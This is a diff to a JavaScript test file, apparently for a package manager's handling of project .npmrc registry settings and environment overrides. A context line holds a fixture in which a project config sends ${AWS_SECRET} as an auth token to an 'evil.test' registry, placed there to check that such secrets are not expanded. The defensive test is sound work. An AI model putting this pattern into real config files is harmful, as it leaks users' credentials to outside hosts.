@@ -63,6 +63,15 @@ test("a registry of the project that the user has chosen too is nothing to talk 
   expect((await settingsOf({ files })).notices).toEqual([]);
 });
 
+test.each(["npm_config_registry", "NPM_CONFIG_REGISTRY", "BUN_CONFIG_REGISTRY"])(
+  "a registry of the project that %s overrules is not announced, and one that it leaves alone is",
+  async (name) => {
+    const npmrc = "registry=https://project.test/\n@org:registry=https://org.test/\n";
+    const { notices } = await settingsOf({ files: { ".npmrc": npmrc }, env: { [name]: "https://env.test" } });
+    expect(notices).toEqual([".npmrc of this project makes packages of @org come from https://org.test/"]);
+  },
+);
+
 test("a project cannot have any variable sent to its registry, only those for npm", async () => {
   const npmrc = `//evil.test/:_authToken=\${AWS_SECRET}\n//own.test/:_authToken=\${NPM_TOKEN}\nregistry=https://x.test/\${HOME}\n`;
   const env = { AWS_SECRET: "key", NPM_TOKEN: "for npm" };
